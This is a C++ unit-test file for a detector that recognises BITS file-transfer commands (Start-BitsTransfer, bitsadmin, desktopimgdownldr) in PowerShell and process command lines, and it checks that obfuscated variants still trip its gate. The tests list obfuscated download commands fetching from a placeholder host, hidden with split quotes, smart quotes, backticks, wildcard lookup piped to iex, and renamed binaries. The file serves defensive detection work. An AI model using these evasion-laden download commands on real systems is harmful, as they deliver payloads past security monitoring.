// A row that the gate stops is never read: whatever can be a transfer must open it.

#include <gtest/gtest.h>

#include <cstdint>
#include <fstream>
#include <iterator>
#include <string>
#include <string_view>
#include <vector>

#include "bits/find_transfer.h"
#include "bits/gate.h"
#include "powershell/command_line.h"
#include "tests/support/csv.h"
#include "tests/support/obfuscator/obfuscator.h"

namespace bits {
namespace {

bool opens(const powershell::Process& process) {
  return gate_opens(process.command_line, GateHits::in(process.command_line), process.name,
                    process.original_file_name);
}

bool is_transfer(const powershell::Process& process) {
  return find_transfers(powershell::read_command_line(process), process).verdict ==
         Verdict::transfer;
}

std::size_t column(const std::vector<std::string>& header, std::string_view name) {
  for (std::size_t i = 0; i < header.size(); ++i) {
    if (header[i] == name) return i;
  }
  ADD_FAILURE() << "no column " << name;
  return 0;
}

TEST(GateSoundness, EveryLineOfTheTableThatIsATransferOpensIt) {
  std::ifstream in(std::string(BITS_TEST_DATA) + "/command_lines.csv", std::ios::binary);
  ASSERT_TRUE(in);
  const std::string content{std::istreambuf_iterator<char>(in), {}};
  search_head::CsvReader reader(content, search_head::CsvRules::file());
  std::vector<std::string> row;
  ASSERT_TRUE(reader.next(row));
  const std::size_t id = column(row, "id");
  const std::size_t line = column(row, "process");
  const std::size_t name = column(row, "process_name");
  const std::size_t original = column(row, "original_file_name");
  std::size_t lines = 0;
  while (reader.next(row)) {
    const powershell::Process process{row[line], row[name], row[original]};
    EXPECT_TRUE(opens(process)) << row[id] << ": " << row[line];
    ++lines;
  }
  EXPECT_EQ(reader.error(), "");
  EXPECT_GE(lines, 150U);
}

// Those that the reader sees through: one that it can't would not match behind an open gate either.
TEST(GateSoundness, EveryHiddenLineThatIsSeenThroughOpensIt) {
  constexpr std::uint64_t kSeed = 4;
  constexpr std::uint64_t kLines = 100'000;
  std::size_t lost = 0;
  for (std::uint64_t number = 0; number < kLines; ++number) {
    const obfuscator::Line line = obfuscator::obfuscate(kSeed, number).line;
    const powershell::Process process{line.process, line.process_name, line.original_file_name};
    if (opens(process) || !is_transfer(process)) continue;
    ++lost;
    ADD_FAILURE() << "seed " << kSeed << ", number " << number << ": " << line.process_name << ", "
                  << line.process;
    if (lost == 20) break;
  }
  EXPECT_EQ(lost, 0U);
}

struct Hidden {
  const char* line;
  const char* name;
  const char* original_file_name;
};

TEST(GateSoundness, WhatTheReaderSeesThroughOpensIt) {
  for (const Hidden& hidden : {
           Hidden{"powershell \"Start-Bi\\\"\\\"tsTransfer http://h/a C:\\a\"", "powershell.exe",
                  ""},
           {"pwsh -co \"b\\\"iT\\\"SAD\\\"\\\"min '/create' j\"", "pwsh.exe", "pwsh.dll"},
           {"powershell St\xE2\x80\x98"
            "art\xE2\x80\x99-Bi\xE2\x80\x98t\xE2\x80\x99sTransfer http://h/a C:\\a",
            "powershell.exe", ""},
           {"powershell Start-Bi\xE2\x80\x9C\xE2\x80\x9DtsTransfer http://h/a C:\\a",
            "powershell.exe", ""},
           {"powershell gcm Start-B?tsTransfer | iex", "powershell.exe", ""},
           {"wmic process call create \"sqlps -Command Start-Bi`TsTransfer http://h/a C:\\a\"",
            "wmic.exe", ""},
           {"b\"\"it\"\"sadmin /resume j", "bitsadmin.exe", ""},
           {"b\"\"it\"\"sadmin /resume j", "", ""},
           {"x.exe /resume j", "x.exe", "bitsadmin.exe"},
           {"x.exe /tr\"ans\"fer j http://h/a C:\\a", "C:\\x.exe", "bitsadmin.exe"},
           {"x.exe /lock\"screenurl\":http://h/a /eventName:x", "x.exe", "desktopimgdownldr.exe"},
       }) {
    const powershell::Process process{hidden.line, hidden.name, hidden.original_file_name};
    EXPECT_TRUE(is_transfer(process)) << hidden.line;
    EXPECT_TRUE(opens(process)) << hidden.line;
  }
}

// Each byte of a line is looked at a fixed number of times, whatever quotes stand in it.
TEST(GateSoundness, LongRunsOfQuotesAreReadToTheirEnd) {
  for (const std::string_view piece : {"\\", "\" ", " \"\\", "' "}) {
    std::string line = "powershell ";
    while (line.size() < 1'000'000) line += piece;
    EXPECT_FALSE(opens({line, "powershell.exe", ""})) << piece;
    EXPECT_TRUE(opens({line + " a\\\"b", "powershell.exe", ""})) << piece;
  }
}

}  // namespace
}  // namespace bits
